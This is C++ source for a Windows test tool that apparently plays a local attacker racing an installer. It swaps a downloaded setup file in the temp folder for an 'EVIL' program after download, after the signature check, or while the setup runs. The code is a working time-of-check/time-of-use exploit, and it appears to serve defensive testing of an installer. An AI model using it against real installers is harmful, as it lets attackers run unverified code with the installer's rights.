// Plays a local attacker who wants an unverified program run with the
// installer's rights: once TARGET (a file name in the user's temporary
// folder, which may be named in any language) has reached SIZE bytes (the
// download is complete), it tries for DURATION ms, as fast as it can, to put
// EVIL in TARGET's place (overwrite in place, replace by rename, delete and
// copy).
//
//   swapper TARGET EVIL SIZE DURATION_MS [after-lock | running | replace-after-close]
//
// With after-lock it first waits, changing nothing, until opening TARGET
// for writing fails with a sharing violation while a reader that shares
// with no writer gets in (the installer holds it for reading, and the
// download no longer writes it), and only then attacks: the window between
// the signature check and the start.
//
// Prints "attempts N replaced M sharing-violations K".
//
// With running it waits until the fake setup signals that it runs, then
// tries once to rename the running setup away and copy EVIL to its path,
// where the setup would read its payload back; it then tells the setup that
// the race is over. Prints "running rename-error E replaced R" (E is 0 when
// the rename went through, R 1 when EVIL took the setup's place).
//
// With replace-after-close it plays another account in the moment after
// the download: from its start it tries, as fast as it can, to open TARGET
// for deleting, which succeeds only once the download has closed it and
// before the installer holds it again; with that handle it keeps the
// installer's reopen out for a moment, then puts a copy of EVIL in TARGET's
// place, a file of another identity. Prints "after-close replaced R size S
// error E" (R 1 when EVIL took TARGET's place; S the size of the file it
// took; E the error of the replacement, 0 when it went through).
#include <windows.h>

#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

namespace {

std::vector<char> ReadAll(const char* path)
{
    std::vector<char> data;
    if (std::FILE* file = std::fopen(path, "rb")) {
        char chunk[65536];
        size_t read;
        while ((read = std::fread(chunk, 1, sizeof(chunk), file)) > 0)
            data.insert(data.end(), chunk, chunk + read);
        std::fclose(file);
    }
    return data;
}

std::wstring Widen(const char* text)
{
    wchar_t wide[MAX_PATH] = {};
    MultiByteToWideChar(CP_ACP, 0, text, -1, wide, MAX_PATH);
    return wide;
}

bool Overwrite(const wchar_t* target, const std::vector<char>& evil, DWORD& error)
{
    HANDLE file = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                              OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE) {
        error = GetLastError();
        return false;
    }
    DWORD written = 0;
    const bool ok = WriteFile(file, evil.data(), static_cast<DWORD>(evil.size()), &written, nullptr) &&
                    SetEndOfFile(file);
    error = ok ? 0 : GetLastError();
    CloseHandle(file);
    return ok;
}

bool ReplaceByRename(const wchar_t* target, const std::wstring& staged, const wchar_t* evil, DWORD& error)
{
    CopyFileW(evil, staged.c_str(), FALSE);
    if (MoveFileExW(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING))
        return true;
    error = GetLastError();
    return false;
}

bool DeleteAndCopy(const wchar_t* target, const wchar_t* evil, DWORD& error)
{
    if (!DeleteFileW(target)) {
        error = GetLastError();
        return false;
    }
    return CopyFileW(evil, target, TRUE) != FALSE;
}

// Whether a writer holds `target`: a reader that lets nobody write is
// refused while one does. The download refuses other writers too, but
// never opens the file again once it has closed it.
bool WritesAnyone(const wchar_t* target)
{
    HANDLE reader = CreateFileW(target, GENERIC_READ, FILE_SHARE_READ, nullptr, OPEN_EXISTING, 0, nullptr);
    if (reader == INVALID_HANDLE_VALUE)
        return true;
    CloseHandle(reader);
    return false;
}

// Whether a handle on `target` refuses writers. Asked after WritesAnyone
// found no writer, it means the installer's read-only hold.
bool RefusesWriters(const wchar_t* target)
{
    HANDLE writer = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                                OPEN_EXISTING, 0, nullptr);
    if (writer == INVALID_HANDLE_VALUE)
        return GetLastError() == ERROR_SHARING_VIOLATION;
    CloseHandle(writer);
    return false;
}

}  // namespace

int ReplaceAfterClose(const wchar_t* target, const std::wstring& staged, DWORD duration)
{
    const DWORD start = GetTickCount();
    HANDLE held = INVALID_HANDLE_VALUE;
    while (held == INVALID_HANDLE_VALUE && GetTickCount() - start < duration)
        held = CreateFileW(target, DELETE | FILE_READ_ATTRIBUTES, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                           nullptr, OPEN_EXISTING, 0, nullptr);
    if (held == INVALID_HANDLE_VALUE) {
        std::printf("after-close replaced 0 size 0 error %lu\n", GetLastError());
        return 0;
    }
    LARGE_INTEGER size = {};
    GetFileSizeEx(held, &size);
    // The attacker's own timing, not a wait for a state: held for a moment,
    // the handle turns the installer's reopen away once (a file that others
    // hold is tried again a little later); let go, the file is replaced at
    // once, atomically, before that next try. A file that is open cannot be
    // replaced, so the handle goes first.
    Sleep(50);
    CloseHandle(held);
    const bool replaced = MoveFileExW(staged.c_str(), target, MOVEFILE_REPLACE_EXISTING) != FALSE;
    std::printf("after-close replaced %d size %lld error %lu\n", replaced ? 1 : 0, size.QuadPart,
                replaced ? 0 : GetLastError());
    return 0;
}

// Bounded: a setup that never starts ends the race with a report that says so.
int AttackRunningSetup(const wchar_t* target, const wchar_t* evil)
{
    HANDLE started = CreateEventW(nullptr, TRUE, FALSE, L"DA_Razi test: setup started");
    HANDLE raceOver = CreateEventW(nullptr, TRUE, FALSE, L"DA_Razi test: race over");
    if (!started || !raceOver || WaitForSingleObject(started, 120000) != WAIT_OBJECT_0) {
        std::printf("setup never started\n");
        return 1;
    }
    const std::wstring movedAway = std::wstring(target) + L".moved";
    DWORD renameError = 0;
    bool replaced = false;
    if (MoveFileExW(target, movedAway.c_str(), 0))
        replaced = CopyFileW(evil, target, TRUE) != FALSE;
    else
        renameError = GetLastError();
    SetEvent(raceOver);
    std::printf("running rename-error %lu replaced %d\n", renameError, replaced ? 1 : 0);
    CloseHandle(started);
    CloseHandle(raceOver);
    return 0;
}

int main(int argc, char** argv)
{
    const std::string mode = argc == 6 ? argv[5] : "";
    if (argc != 5 && !(argc == 6 && (mode == "after-lock" || mode == "running" || mode == "replace-after-close"))) {
        std::fprintf(stderr, "usage: swapper TARGET EVIL SIZE DURATION_MS [after-lock | running | replace-after-close]\n");
        return 2;
    }
    wchar_t folder[MAX_PATH] = {};
    GetTempPathW(MAX_PATH, folder);
    const std::wstring targetPath = folder + Widen(argv[1]);
    const wchar_t* target = targetPath.c_str();
    const std::wstring evilPath = Widen(argv[2]);
    const wchar_t* evil = evilPath.c_str();
    const unsigned long size = std::strtoul(argv[3], nullptr, 10);
    const DWORD duration = std::strtoul(argv[4], nullptr, 10);
    const std::vector<char> evilBytes = ReadAll(argv[2]);
    const std::wstring staged = targetPath + L".staged";
    if (mode == "running")
        return AttackRunningSetup(target, evil);
    if (mode == "replace-after-close") {
        CopyFileW(evil, staged.c_str(), FALSE);
        return ReplaceAfterClose(target, staged, duration);
    }

    const DWORD waitStart = GetTickCount();
    for (;;) {
        WIN32_FILE_ATTRIBUTE_DATA data;
        if (GetFileAttributesExW(target, GetFileExInfoStandard, &data) && data.nFileSizeLow == size)
            break;
        if (GetTickCount() - waitStart > 120000) {
            std::printf("target never complete\n");
            return 1;
        }
        Sleep(0);
    }

    if (mode == "after-lock") {
        for (;;) {
            HANDLE probe = CreateFileW(target, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                       nullptr, OPEN_EXISTING, 0, nullptr);
            if (probe != INVALID_HANDLE_VALUE) {
                CloseHandle(probe);
            } else if (GetLastError() == ERROR_SHARING_VIOLATION && !WritesAnyone(target) && RefusesWriters(target)) {
                break;
            }
            if (GetTickCount() - waitStart > 120000) {
                std::printf("never locked\n");
                return 1;
            }
        }
        std::printf("locked ");
    }

    unsigned long attempts = 0, replaced = 0, sharingViolations = 0;
    const DWORD start = GetTickCount();
    while (GetTickCount() - start < duration) {
        DWORD error = 0;
        bool ok = false;
        switch (attempts % 3) {
        case 0:
            ok = Overwrite(target, evilBytes, error);
            break;
        case 1:
            ok = ReplaceByRename(target, staged, evil, error);
            break;
        default:
            ok = DeleteAndCopy(target, evil, error);
            break;
        }
        ++attempts;
        if (ok)
            ++replaced;
        else if (error == ERROR_SHARING_VIOLATION || error == ERROR_ACCESS_DENIED)
            ++sharingViolations;
    }
    DeleteFileW(staged.c_str());
    std::printf("attempts %lu replaced %lu sharing-violations %lu\n", attempts, replaced, sharingViolations);
    return 0;
}
